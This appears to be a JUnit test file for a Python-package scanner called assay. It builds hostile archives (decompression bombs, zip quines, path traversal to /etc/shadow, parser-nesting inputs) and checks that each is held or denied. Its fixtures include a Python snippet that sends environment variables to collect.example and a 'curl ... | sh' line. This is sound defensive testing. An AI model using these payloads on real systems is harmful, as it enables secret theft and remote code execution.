package dev.assay.cli;

import static dev.assay.cli.Packing.MEBIBYTE;
import static dev.assay.cli.Packing.header;
import static dev.assay.cli.Packing.put;
import static dev.assay.cli.Packing.sdist;
import static dev.assay.cli.Packing.tar;
import static dev.assay.cli.Packing.wheel;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Artifacts that are made to keep a scanner from its verdict: each gets one, none is admitted
/// because something could not be read, and the thief beside them is found.
@Timeout(600)
class HostileScansTest {
  private static final String THEFT =
      """
      import os, urllib.request
      urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
      """;

  @TempDir private Path home;
  @TempDir private Path folder;

  @BeforeEach
  void putAThiefBeside() throws IOException {
    try (ZipOutputStream zip = wheel(folder, "zthief")) {
      put(zip, "zthief/__init__.py", THEFT, 0);
    }
  }

  @Test
  void modulesThatSwell() throws IOException {
    try (ZipOutputStream zip = wheel(folder, "bomb")) {
      put(zip, "bomb/__init__.py", "", 300);
    }
    try (OutputStream out = sdist(folder, "tarbomb")) {
      header(out, "tarbomb-1.0/setup.py", 300L * MEBIBYTE, '0', "");
      byte[] zeros = new byte[MEBIBYTE];
      for (int i = 0; i < 300; i++) {
        out.write(zeros);
      }
    }
    assertThat(stopped("bomb-1.0", "tarbomb-1.0")).contains("larger than 96 MiB");
  }

  @Test
  void archivesInArchives() throws IOException {
    byte[] inner = zipped("setup.py", THEFT.getBytes(UTF_8));
    for (int i = 0; i < 40; i++) {
      inner = zipped("deeper.zip", inner);
    }
    try (ZipOutputStream zip = wheel(folder, "deep")) {
      zip.putNextEntry(new ZipEntry("deep/data.bin"));
      zip.write(inner);
    }
    byte[] many = new byte[MEBIBYTE];
    for (int level = 0; level < 4; level++) {
      ByteArrayOutputStream packed = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(packed)) {
        for (int i = 0; i < 16; i++) {
          zip.putNextEntry(new ZipEntry("part%d.zip".formatted(i)));
          zip.write(many);
        }
      }
      many = packed.toByteArray();
    }
    try (ZipOutputStream zip = wheel(folder, "wide")) {
      zip.putNextEntry(new ZipEntry("wide/data.bin"));
      zip.write(many);
    }
    stopped("deep-1.0", "wide-1.0");
  }

  @Test
  void anArchiveThatHoldsItself() throws IOException {
    byte[] quine = ZipQuine.bytes();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(quine))) {
      in.getNextEntry();
      assertThat(in.readAllBytes()).isEqualTo(quine);
    }
    Files.write(folder.resolve("quine-1.0-py3-none-any.whl"), quine);
    try (ZipOutputStream zip = wheel(folder, "carrier")) {
      put(zip, "carrier/__init__.py", "x = 1\n", 0);
      zip.putNextEntry(new ZipEntry("carrier/data.bin"));
      zip.write(quine);
    }
    assertThat(stopped("quine-1.0", "carrier-1.0"))
        .contains("an archive in archives, too deep to be read");
  }

  @Test
  void zstandardThatSwells() throws IOException {
    byte[] start = {0x28, (byte) 0xB5, 0x2F, (byte) 0xFD, 0, 0x58};
    try (OutputStream out = Files.newOutputStream(folder.resolve("swell-1.0.tar.zst"))) {
      out.write(start);
      ByteArrayOutputStream block = new ByteArrayOutputStream();
      header(block, "swell-1.0/setup.py", 8_000L * MEBIBYTE, '0', "");
      out.write(new byte[] {0, 16, 0});
      out.write(block.toByteArray());
      for (int i = 0; i < 64_000; i++) {
        // A byte repeated 128 KiB times.
        out.write(new byte[] {2, 0, 16, 'x'});
      }
    }
    ByteArrayOutputStream endless = new ByteArrayOutputStream();
    endless.write(start);
    for (int i = 0; i < 100_000; i++) {
      endless.write(new byte[] {0, 0, 0});
    }
    Files.write(folder.resolve("idle-1.0.tar.zst"), endless.toByteArray());
    Files.write(
        folder.resolve("window-1.0.tar.zst"),
        new byte[] {0x28, (byte) 0xB5, 0x2F, (byte) 0xFD, 0, (byte) 0xF8, 1, 0, 0});
    assertThat(stopped("swell-1.0", "idle-1.0", "window-1.0"))
        .contains("a window of more than 128 MiB");
  }

  private static byte[] zipped(String name, byte[] content) throws IOException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(packed)) {
      zip.putNextEntry(new ZipEntry(name));
      zip.write(content);
    }
    return packed.toByteArray();
  }

  @Test
  void moreFilesThanAreRead() throws IOException {
    try (ZipOutputStream zip = wheel(folder, "crowd")) {
      for (int i = 0; i < 100_001; i++) {
        put(zip, "crowd/m%d.py".formatted(i), "", 0);
      }
      put(zip, "crowd/__init__.py", THEFT, 0);
    }
    stopped("crowd-1.0");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"(", "[", "{", "{1:", "f(", "-", "not ", "lambda: ", "x if y else ", "a."})
  void nestingWithoutEnd(String opening) throws IOException {
    try (ZipOutputStream zip = wheel(folder, "nest")) {
      put(zip, "nest/__init__.py", "x = " + opening.repeat(200_000) + "1\n" + THEFT, 0);
    }
    stopped("nest-1.0");
  }

  @Test
  void blocksWithoutEnd() throws IOException {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 2_000; i++) {
      text.append(" ".repeat(i)).append("if x:\n");
    }
    try (ZipOutputStream zip = wheel(folder, "blocks")) {
      put(zip, "blocks/__init__.py", THEFT + text + " ".repeat(2_000) + "pass\n", 0);
    }
    stopped("blocks-1.0");
  }

  @Test
  void namesThatLeadElsewhereAndLinks() throws IOException {
    try (ZipOutputStream zip = wheel(folder, "trav")) {
      put(zip, "../../usr/lib/python3/sitecustomize.py", THEFT, 0);
      put(zip, "/absolute.pth", "import os; os.system('curl http://192.0.2.7/x | sh')\n", 0);
    }
    try (OutputStream out = sdist(folder, "links")) {
      tar(out, "links-1.0/PKG-INFO", "Name: links\nVersion: 1.0\n", '0', "");
      tar(out, "links-1.0/setup.py", "", '2', "/etc/passwd");
      tar(out, "links-1.0/other.py", "", '1', "../../../etc/shadow");
    }
    assertThat(stopped("trav-1.0", "links-1.0")).doesNotContain("root:");
  }

  @Test
  void archivesThatEndTooSoon() throws IOException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(packed)) {
      put(zip, "cut/__init__.py", THEFT, 1);
    }
    byte[] whole = packed.toByteArray();
    Files.write(folder.resolve("cut-1.0-py3-none-any.whl"), Arrays.copyOf(whole, whole.length / 2));
    ByteArrayOutputStream tarred = new ByteArrayOutputStream();
    try (OutputStream out = new GZIPOutputStream(tarred)) {
      tar(out, "short-1.0/setup.py", THEFT + "#".repeat(5_000), '0', "");
    }
    byte[] all = tarred.toByteArray();
    Files.write(folder.resolve("short-1.0.tar.gz"), Arrays.copyOf(all, all.length - 20));
    Files.write(folder.resolve("empty-1.0-py3-none-any.whl"), new byte[0]);
    Files.writeString(folder.resolve("text-1.0.tar.gz"), "this is no archive\n");
    stopped("cut-1.0", "short-1.0", "empty-1.0", "text-1.0");
  }

  @Test
  void archivesInTwoMinds() throws IOException {
    ByteArrayOutputStream tarred = new ByteArrayOutputStream();
    try (OutputStream out = new GZIPOutputStream(tarred)) {
      tar(out, "mixed-1.0/setup.py", "print('harmless')\n", '0', "");
    }
    byte[] zip = zipped("mixed/__init__.py", THEFT.getBytes(UTF_8));
    try (OutputStream out = Files.newOutputStream(folder.resolve("mixed-1.0-py3-none-any.whl"))) {
      out.write(tarred.toByteArray());
      out.write(zip);
    }
    byte[] twice = zipped("twice/__init__.py", "x = 1\n".getBytes(UTF_8));
    byte[] other = zipped("twice/__init__.pz", THEFT.getBytes(UTF_8));
    try (OutputStream out = Files.newOutputStream(folder.resolve("twice-1.0-py3-none-any.whl"))) {
      out.write(other);
      out.write(twice);
    }
    stopped("mixed-1.0", "twice-1.0");
  }

  @Test
  void namesInAnyEncoding() throws IOException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(packed, ISO_8859_1)) {
      put(zip, "names/\u00ff\u00fe\u0080.py", THEFT, 0);
      put(zip, "names/\u001b[2J.py", THEFT, 0);
      put(zip, "names/" + "n".repeat(4_000) + ".py", THEFT, 0);
      put(zip, "names/__init__.py", THEFT, 0);
    }
    Files.write(folder.resolve("names-1.0-py3-none-any.whl"), packed.toByteArray());
    assertThat(stopped("names-1.0")).doesNotContain("\u001b");
  }

  @Test
  void codeThatTakesForEver() throws IOException {
    try (ZipOutputStream zip = wheel(folder, "loop")) {
      put(
          zip,
          "loop/__init__.py",
          """
          x = 1
          while True:
              x = (x * 6364136223846793005 + 1) % 18446744073709551616
              if x == 7:
                  break
          exec(bytes(x & 127 for x in range(10 ** 9)))
          """
              + THEFT,
          0);
    }
    stopped("loop-1.0");
  }

  @Test
  void aLineOfAGigabyte() throws IOException {
    assumeTrue(Boolean.getBoolean("assay.long"), "a gigabyte: run with -Dassay.long=true");
    Path module = folder.resolve("line.py");
    byte[] letters = new byte[MEBIBYTE];
    Arrays.fill(letters, (byte) 'a');
    try (OutputStream out = Files.newOutputStream(module)) {
      out.write("x = '".getBytes(UTF_8));
      for (int i = 0; i < 1_024; i++) {
        out.write(letters);
      }
      out.write("'\n".getBytes(UTF_8));
    }
    stopped("line.py");
  }

  /// Scans everything; what each of these artifacts was called stands beside no `admit`.
  private String stopped(String... names) {
    Run run = Run.in(folder, home, "scan", "--no-known", "--format", "json", folder.toString());
    assertThat(run.out()).doesNotContain("Exception", "mistake in assay", "Error:");
    assertThat(verdict(run, "zthief-1.0")).isEqualTo("deny");
    for (String name : names) {
      assertThat(verdict(run, name)).isIn("hold", "deny");
    }
    assertThat(run.code()).isEqualTo(1);
    return run.out();
  }

  private static String verdict(Run run, String name) {
    return run.out()
        .lines()
        .filter(it -> it.contains("/" + name))
        .findFirst()
        .map(it -> it.replaceFirst(".*?\"verdict\":\"(\\w+)\".*", "$1"))
        .orElseThrow(() -> new AssertionError(name + " is not in " + run.out()));
  }
}
